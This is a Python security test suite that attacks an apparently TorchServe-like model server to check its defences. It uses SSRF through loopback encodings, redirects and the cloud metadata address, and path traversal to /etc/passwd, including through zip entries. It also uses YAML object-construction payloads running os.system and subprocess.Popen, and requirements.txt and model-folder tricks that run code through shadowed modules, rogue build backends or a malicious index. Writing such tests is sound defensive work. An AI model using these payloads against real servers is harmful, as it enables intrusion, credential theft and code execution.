"""Attacks through models: their URLs (CVE-2023-43654), YAML (CVE-2022-1471), requirements and folders."""

from __future__ import annotations

import contextlib
import io
import json
import tempfile
import zipfile
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler
from pathlib import Path

import httpx

from tests.security.attack import Outcome, Target, attack
from tests.support.archives import ECHO, make_archive
from tests.support.http_server import serving

_CONFIG = json.dumps({"architectures": ["BertForTokenClassification"], "model_type": "bert"})
_FOLDER = {"config.json": _CONFIG, "tokenizer.json": "{}", "model.safetensors": ""}


@contextlib.contextmanager
def _internal_service(redirect: str = "") -> Iterator[tuple[int, list[str]]]:
    """Serve an archive on the loopback address, or redirect to ``redirect``; yield port and requests."""
    requests: list[str] = []
    with tempfile.TemporaryDirectory() as folder:
        body = make_archive(Path(folder), "fetched", ECHO).read_bytes()

    def answer(handler: BaseHTTPRequestHandler) -> None:
        requests.append(handler.path)
        handler.send_response(302 if redirect else 200)
        if redirect:
            handler.send_header("Location", redirect)
        handler.send_header("Content-Length", "0" if redirect else str(len(body)))
        handler.end_headers()
        if not redirect:
            handler.wfile.write(body)

    with serving(answer) as address:
        yield int(address.rpartition(":")[2]), requests


def _register(target: Target, url: str, **more: object) -> httpx.Response:
    return target.manage("POST", "/models", params={"url": url, "initial_workers": 0, **more})


def _remove(target: Target, *names: str) -> None:
    for name in names:
        target.manage("DELETE", f"/models/{name}")


def _statuses(responses: list[httpx.Response]) -> str:
    return " ".join(str(response.status_code) for response in responses)


@attack("supply_chain", "SSRF: forms of a loopback URL", before="12 of 12 requests sent")
def fetch_from_loopback(target: Target) -> Outcome:
    """Register archives and workflows from an internal service, by all ways to write its address."""
    hosts = ["127.0.0.1", "localhost", "2130706433", "0x7f000001", "127.1", "[::ffff:127.0.0.1]"]
    with _internal_service() as (port, requests):
        for host in hosts:
            for path in ("models", "workflows"):
                target.manage("POST", f"/{path}", params={"url": f"http://{host}:{port}/m.mar"})
                _remove(target, "fetched")
        return Outcome(f"{len(requests)} of {2 * len(hosts)} requests sent", not requests)


@attack("supply_chain", "SSRF: redirect to an internal service", before="1 request of the internal service")
def follow_redirect(target: Target) -> Outcome:
    with (
        _internal_service() as (inner, requests),
        _internal_service(f"http://127.0.0.1:{inner}/m.mar") as (outer, _),
    ):
        _register(target, f"http://127.0.0.1:{outer}/m.mar")
        _remove(target, "fetched")
    return Outcome(f"{len(requests)} requests of the internal service", not requests)


@attack("supply_chain", "files outside the model store", before="200 400 400 404 404")
def read_files(target: Target) -> Outcome:
    """Register an archive outside the store, and name files of the system by URL and by path."""
    with tempfile.TemporaryDirectory() as folder:
        archive = make_archive(Path(folder), "outside", ECHO)
        urls = [
            archive.as_uri(),
            "file:///etc/passwd",
            "/etc/passwd",
            "../../etc/passwd",
            "%2e%2e/etc/passwd",
        ]
        responses = [_register(target, url) for url in urls]
    _remove(target, "outside")
    leaked = any("root:" in response.text for response in responses)
    resisted = not leaked and all(response.status_code in (400, 404) for response in responses)
    return Outcome(_statuses(responses), resisted)


@attack("supply_chain", "metadata address of a cloud", before="400 400, connected to")
def fetch_metadata(target: Target) -> Outcome:
    """Register from the link-local address that answers with credentials in clouds."""
    urls = ["http://169.254.169.254/latest/meta-data/m.mar", "http://[fd00:ec2::254]/m.mar"]
    responses = [_register(target, url) for url in urls]
    refused = all("is not a public address" in response.text for response in responses)
    return Outcome(f"{_statuses(responses)}, {'refused by address' if refused else 'connected to'}", refused)


@attack("supply_chain", "workflow archive with paths out of it", before="400 400 400, no file outside")
def traverse_in_war(target: Target) -> Outcome:
    store = target.home / "model_store"
    outside = target.home / "traversal"
    manifest = {"workflowName": "w", "specFile": "../../../../etc/passwd", "handler": "../../evil.py"}
    wars = {
        "spec.war": {"WAR-INF/MANIFEST.json": json.dumps({"workflow": manifest})},
        "entry.war": {"../../traversal": "x", "WAR-INF/MANIFEST.json": "{}"},
        "absolute.war": {str(outside): "x", "WAR-INF/MANIFEST.json": "{}"},
    }
    for name, files in wars.items():
        with zipfile.ZipFile(store / name, "w") as war:
            for file, text in files.items():
                war.writestr(file, text)
    responses = [target.manage("POST", "/workflows", params={"url": name}) for name in wars]
    for name in wars:
        (store / name).unlink()
    resisted = all(response.status_code == 400 for response in responses) and not outside.exists()
    return Outcome(f"{_statuses(responses)}, {'no' if not outside.exists() else 'a'} file outside", resisted)


@attack("supply_chain", "YAML that constructs objects", before="400 400 400, nothing ran")
def construct_by_yaml(target: Target) -> Outcome:
    mark = target.home / "yaml.mark"
    documents = [
        f"x: !!python/object/apply:os.system ['touch {mark}']",
        "x: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ['http://a/']]]]",
        f"x: !!python/object/new:subprocess.Popen [[touch, '{mark}']]",
    ]
    responses = []
    for text in documents:
        archive = make_archive(target.home / "model_store", "yaml", ECHO, config={})
        _rewrite(archive, "model-config.yaml", text)
        responses.append(_register(target, archive.name))
        archive.unlink()
    _remove(target, "yaml")
    resisted = all(response.status_code == 400 for response in responses) and not mark.exists()
    return Outcome(f"{_statuses(responses)}, {'nothing' if not mark.exists() else 'code'} ran", resisted)


@attack("supply_chain", "requirements.txt that runs code", before="4 of 6 editable pip sdist index")
def run_code_by_pip(target: Target) -> Outcome:
    """Shadow pip by the archive's files, and name a source distribution or an index of the attacker."""
    marks = target.home / "pip-marks"
    marks.mkdir()

    def touch(name: str) -> str:
        return f"open({str(marks / name)!r}, 'w').close()\n"

    # A build backend in the source tree itself, which needs no other package.
    backend = '[build-system]\nrequires = []\nbuild-backend = "evil"\nbackend-path = ["."]\n'
    with _internal_service() as (port, requests):
        cases = {
            "pip": ("first", {"pip/__init__.py": "", "pip/__main__.py": touch("pip")}),
            "sitecustomize": ("second", {"sitecustomize.py": touch("sitecustomize")}),
            "json": ("third", {"json.py": touch("json")}),
            "sdist": ("./sub", {"sub/pyproject.toml": backend, "sub/evil.py": touch("sdist")}),
            "editable": ("-e .", {"pyproject.toml": backend, "evil.py": touch("editable")}),
            "index": (f"--index-url http://127.0.0.1:{port}/simple\ntinypkg", {}),
        }
        for name, (line, files) in cases.items():
            _register_with_requirements(target, f"pip-{name}", f"{line}\n", files)
    ran = sorted(mark.name for mark in marks.iterdir()) + ["index"] * bool(requests)
    return Outcome(f"{len(ran)} of {len(cases)} {' '.join(ran)}".strip(), not ran)


@attack("supply_chain", "code in a model folder", before="4 of 4 huggingface named remote shadow")
def run_code_in_folder(target: Target) -> Outcome:
    """Register folders without a manifest that hold a handler, a package, or transformers' remote code."""
    store = target.home / "model_store"
    marks = target.home / "folder-marks"
    marks.mkdir()

    def code(name: str) -> str:
        return f"open({str(marks / name)!r}, 'w').close()\n"

    auto = {"auto_map": {"AutoConfig": "own.OwnConfig"}, "model_type": "own"}
    remote = json.dumps({**json.loads(_CONFIG), **auto})
    trusted = "trusted: true\n"
    cases: dict[str, tuple[dict[str, str], dict[str, str]]] = {
        "huggingface": ({"huggingface.py": code("huggingface") + ECHO}, {}),
        "named": ({"own.py": code("named") + ECHO}, {"handler": "own.py"}),
        "shadow": ({"captum.py": code("shadow"), "transformers.py": code("shadow")}, {}),
        "remote": ({"config.json": remote, "own.py": code("remote"), "model-config.yaml": trusted}, {}),
    }
    for name, (files, parameters) in cases.items():
        with zipfile.ZipFile(store / f"folder-{name}.zip", "w") as folder:
            for file, text in {**_FOLDER, **files}.items():
                folder.writestr(file, text)
        _register(target, f"folder-{name}.zip", initial_workers=1, startup_timeout=20, **parameters)
        _remove(target, f"folder-{name}")
        (store / f"folder-{name}.zip").unlink()
    ran = sorted(mark.name for mark in marks.iterdir())
    return Outcome(f"{len(ran)} of {len(cases)} {' '.join(ran)}".strip(), not ran)


@attack("supply_chain", "an archive replaced behind its digest", before="404 200: the digest was ignored")
def replace_archive(target: Target) -> Outcome:
    archive = make_archive(target.home / "model_store", "replaced", ECHO)
    wrong = "0" * 64
    forms = [(f"{archive.name}?sha256={wrong}", {}), (archive.name, {"sha256": wrong})]
    responses = [_register(target, url, **more) for url, more in forms]
    archive.unlink()
    _remove(target, "replaced")
    named = "should be" in responses[1].text
    return Outcome(_statuses(responses), named and all(response.status_code == 400 for response in responses))


def _register_with_requirements(target: Target, name: str, text: str, files: dict[str, str]) -> None:
    store = target.home / "model_store"
    contents: dict[str, str | bytes] = {**files, "requirements.txt": text}
    archive = make_archive(store, name, ECHO, files=contents, config={"useVenv": True})
    manifest = {"modelName": name, "modelVersion": "1.0", "handler": "handler.py"}
    manifest |= {"configFile": "model-config.yaml", "requirementsFile": "requirements.txt"}
    _rewrite(archive, "MAR-INF/MANIFEST.json", json.dumps({"runtime": "python", "model": manifest}))
    _register(target, archive.name)
    _remove(target, name)
    archive.unlink()


def _rewrite(archive: Path, name: str, text: str) -> None:
    """Replace one file of a zip."""
    with zipfile.ZipFile(archive) as old:
        files = {entry: old.read(entry) for entry in old.namelist()}
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as new:
        for entry, content in {**files, name: text.encode()}.items():
            new.writestr(entry, content)
    archive.write_bytes(buffer.getvalue())
